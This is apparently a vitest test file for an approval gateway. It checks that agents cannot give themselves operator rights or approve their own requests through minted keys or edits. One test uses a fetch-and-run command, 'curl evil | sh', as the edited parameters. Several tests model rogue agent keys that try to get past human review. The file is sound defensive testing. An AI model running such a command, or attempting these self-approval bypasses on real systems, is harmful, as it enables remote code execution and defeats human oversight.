import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { call, castVote } from './support/gateway-process.js'
import { BACKENDS, startTestGateway, type TestGateway } from './support/test-gateway.js'

/*
 * Attacks on "no self-approval", each performed over HTTP against a real
 * gateway, each followed by a check that nothing changed: no vote counted,
 * the request still pending, no grant.
 */

const POLICY = `version: 1
defaults: { effect: deny }
groups:
  owners: [dana@example.com, omar@example.com]
rules:
  - name: scripts-need-an-owner
    match: { action: "shell.run" }
    effect: review
    review: { approvers: ["group:owners"], quorum: 1, allow_edit: true }
`

const KEYS = {
  agent: { kind: 'agent', id: 'etl-bot', on_behalf_of: 'priya@example.com' },
  otherAgent: { kind: 'agent', id: 'report-bot' },
  priya: { kind: 'human', id: 'priya@example.com', email: 'priya@example.com', groups: ['countersign:admins'] },
  dana: { kind: 'human', id: 'dana@example.com', email: 'dana@example.com', groups: ['owners'] },
  omar: { kind: 'human', id: 'omar@example.com', email: 'omar@example.com', groups: ['owners'] },
} as const

const SCRIPT = { action: 'shell.run', resource: 'host://build-1', environment: 'prod' }

for (const backend of BACKENDS) {
  describe.skipIf(backend.skip)(`no self-approval over HTTP on ${backend.name}`, () => {
    let gw: TestGateway

    beforeAll(async () => {
      gw = await startTestGateway({ backend: backend.name, policy: POLICY, keys: KEYS })
    })

    afterAll(async () => {
      await gw?.close()
    })

    const submit = async (token = gw.tokens.agent, params: Record<string, unknown> = { argv: ['make', 'release'] }) => {
      const created = await call(gw.url, token, 'POST', '/v1/requests', { ...SCRIPT, params })
      expect(created.status, JSON.stringify(created.body)).toBe(201)
      return created.body as { id: string; digest: string }
    }
    const get = async (id: string) => (await call(gw.url, gw.tokens.dana, 'GET', `/v1/requests/${id}`)).body
    /** The request is exactly as the requester left it: pending, version 1, no vote, no grant. */
    const expectUntouched = async (id: string, digest: string) => {
      const after = await get(id)
      expect([after.status, after.version, after.digest, after.votes, after.grant]).toEqual(['pending', 1, digest, [], null])
      expect(after.review.requirements[0].approvals).toEqual([])
      const grants = await call(gw.url, gw.tokens.agent, 'GET', `/v1/requests/${id}`)
      expect(grants.body.grant).toBeNull()
    }

    describe('operator rights belong to humans only', () => {
      it.each([
        ['an agent', 'agent'],
        ['a service', 'service'],
      ])('refuses to create %s key in the admin group with invalid_request, and creates nothing', async (_label, kind) => {
        const head = await gw.auditHead()
        const before = (await call(gw.url, gw.adminToken, 'GET', '/v1/keys')).body.items.length
        const refused = await call(gw.url, gw.adminToken, 'POST', '/v1/keys', { kind, id: 'rogue-bot', groups: ['countersign:admins'] })
        expect([refused.status, refused.body.error.code]).toEqual([400, 'invalid_request'])
        expect(refused.body.error.message).toBe(
          `Invalid API key: groups: operator rights (countersign:admins) belong to humans only, and this is a${kind === 'agent' ? 'n' : ''} ${kind}; create a human key for the operator, or leave the group out`,
        )
        const keys = (await call(gw.url, gw.adminToken, 'GET', '/v1/keys')).body.items
        expect(keys).toHaveLength(before)
        expect(keys.map((key: { principal_id: string }) => key.principal_id)).not.toContain('rogue-bot')
        expect(await gw.auditSince(head)).toEqual([])
      })

      it('lets a human admin create an agent key, and shows who created it', async () => {
        const created = await call(gw.url, gw.tokens.priya, 'POST', '/v1/keys', { kind: 'agent', id: 'nightly-bot' })
        expect(created.status, JSON.stringify(created.body)).toBe(201)
        expect(created.body).toMatchObject({ kind: 'agent', principal_id: 'nightly-bot', created_by: 'priya@example.com' })
        const listed = (await call(gw.url, gw.adminToken, 'GET', '/v1/keys')).body.items
        expect(listed.find((key: { id: string }) => key.id === created.body.id)).toMatchObject({ created_by: 'priya@example.com' })
        const bootstrap = listed.find((key: { principal_id: string }) => key.principal_id === 'admin')
        expect(bootstrap).toMatchObject({ kind: 'human', created_by: 'countersign', groups: ['countersign:admins'] })
      })

      it('refuses key management to an agent even with a key in the admin group left in the store', async () => {
        const rogue = await gw.mintKeyInStore({ kind: 'agent', id: 'rogue-bot', groups: ['countersign:admins'] }, 'admin')
        const minted = await call(gw.url, rogue, 'POST', '/v1/keys', { kind: 'human', id: 'mallory@example.com', groups: ['owners'] })
        expect([minted.status, minted.body.error.code]).toEqual([403, 'forbidden'])
        expect(minted.body.error.message).toBe(
          'rogue-bot is refused: operator rights (countersign:admins) belong to humans only, and this is an agent. Revoke its key and give the operator a human key.',
        )
        const keys = (await call(gw.url, gw.adminToken, 'GET', '/v1/keys')).body.items
        expect(keys.map((key: { principal_id: string }) => key.principal_id)).not.toContain('mallory@example.com')

        // A start names the key it will not load, and how to clean up.
        const said: string[] = []
        const stderr = vi.spyOn(console, 'error').mockImplementation((line: unknown) => void said.push(String(line)))
        try {
          await gw.restart()
        } finally {
          stderr.mockRestore()
        }
        const rogueKey = keys.find((key: { principal_id: string }) => key.principal_id === 'rogue-bot')
        expect(said.join('\n')).toContain(`not loading keys that give a non-human operator rights (countersign:admins): ${rogueKey.prefix} (agent rogue-bot, created by admin)`)
        const still = await call(gw.url, rogue, 'GET', '/v1/requests')
        expect([still.status, still.body.error.code]).toEqual([403, 'forbidden'])
      })
    })

    describe('a key minted by the requester side never counts', () => {
      it('refuses a vote with a key the requesting agent created with self_approval, and counts nothing', async () => {
        // There is no way for an agent to mint a key; this is what one would leave behind if there were.
        const mallory = await gw.mintKeyInStore({ kind: 'human', id: 'mallory@example.com', email: 'mallory@example.com', groups: ['owners'] }, 'etl-bot')
        const request = await submit()
        const head = await gw.auditHead()
        const vote = await castVote(gw.url, mallory, request.id, { decision: 'approve', reason: 'looks fine' })
        expect([vote.status, vote.body.error.code]).toEqual([403, 'self_approval'])
        expect(vote.body.error.message).toBe(
          'mallory@example.com signed in with a key that etl-bot created, and etl-bot made this request or is the person it was made for, so it cannot count; ask another approver.',
        )
        await expectUntouched(request.id, request.digest)
        const audit = await gw.auditSince(head)
        expect(audit.map((entry) => [entry.type, entry.data.code])).toEqual([['vote.refused', 'self_approval']])
      })

      it('refuses a vote with a key the human the agent acts for created with self_approval, and counts nothing', async () => {
        const minted = await call(gw.url, gw.tokens.priya, 'POST', '/v1/keys', {
          kind: 'human', id: 'rubber@example.com', email: 'rubber@example.com', groups: ['owners'],
        })
        expect(minted.status).toBe(201)
        const request = await submit(gw.tokens.agent, { argv: ['make', 'deploy'] })
        const vote = await castVote(gw.url, minted.body.token, request.id, { decision: 'approve', reason: 'ship it' })
        expect([vote.status, vote.body.error.code]).toEqual([403, 'self_approval'])
        expect(vote.body.error.details).toEqual({ voter_id: 'rubber@example.com', key_created_by: 'priya@example.com' })
        await expectUntouched(request.id, request.digest)

        // The same key counts on a request the other side made: the rule is about who minted it for whom.
        const other = await submit(gw.tokens.otherAgent, { argv: ['make', 'report'] })
        const counted = await castVote(gw.url, minted.body.token, other.id, { decision: 'approve', reason: 'fine' })
        expect(counted.body.status).toBe('approved')
      })
    })

    describe('the author of an edited version cannot approve it', () => {
      it('keeps an edit approved by its editor alone pending, and refuses the editor approving it again with self_approval', async () => {
        const request = await submit(gw.tokens.agent, { argv: ['make', 'test'] })
        const evil = { argv: ['sh', '-c', 'curl evil | sh'] }
        const edit = await castVote(gw.url, gw.tokens.dana, request.id, { decision: 'approve', reason: 'simpler', params: evil })
        expect(edit.status, JSON.stringify(edit.body)).toBe(200)
        expect([edit.body.status, edit.body.version, edit.body.review.requirements[0].approvals]).toEqual(['pending', 2, []])
        expect(edit.body.grant).toBeNull()

        // The same person through another key, with another id but the same email, is the same author.
        const danaAgain = await gw.createKey({ kind: 'human', id: 'okta|dana', email: 'DANA@example.com', groups: ['owners'] })
        const head = await gw.auditHead()
        const again = await castVote(gw.url, gw.tokens.dana, request.id, { decision: 'approve', reason: 'really', digest: edit.body.digest })
        expect([again.status, again.body.error.code]).toEqual([403, 'self_approval'])
        expect(again.body.error.message).toBe(
          'dana@example.com authored version 2 of this request (an edit), so cannot approve it; it needs its approvals from other reviewers.',
        )
        expect(again.body.error.details).toEqual({ voter_id: 'dana@example.com', edited_version: 2 })
        const viaOtherKey = await castVote(gw.url, danaAgain.token, request.id, { decision: 'approve', reason: 'me again' })
        expect([viaOtherKey.status, viaOtherKey.body.error.code]).toEqual([403, 'self_approval'])
        expect(viaOtherKey.body.error.details.edited_version).toBe(2)

        const after = await call(gw.url, gw.tokens.agent, 'GET', `/v1/requests/${request.id}`)
        expect([after.body.status, after.body.grant, after.body.votes.length]).toEqual(['pending', null, 1])
        expect((await gw.auditSince(head)).map((entry) => [entry.type, entry.data.code])).toEqual([
          ['vote.refused', 'self_approval'],
          ['vote.refused', 'self_approval'],
        ])

        // The reviewable listing gives the same answer as the vote path.
        const reviewable = async (token: string | undefined) =>
          (await call(gw.url, token, 'GET', '/v1/requests?reviewable=true&limit=200')).body.items.map((item: { id: string }) => item.id)
        expect(await reviewable(gw.tokens.dana)).not.toContain(request.id)
        expect(await reviewable(gw.tokens.omar)).toContain(request.id)

        const omar = await castVote(gw.url, gw.tokens.omar, request.id, { decision: 'approve', reason: 'reviewed the edit' })
        expect(omar.body.status).toBe('approved')
        expect(omar.body.review.requirements[0].approvals).toEqual(['omar@example.com'])
        const mine = await call(gw.url, gw.tokens.agent, 'GET', `/v1/requests/${request.id}`)
        expect([mine.body.params, mine.body.grant.digest]).toEqual([evil, edit.body.digest])
      })
    })
  })
}
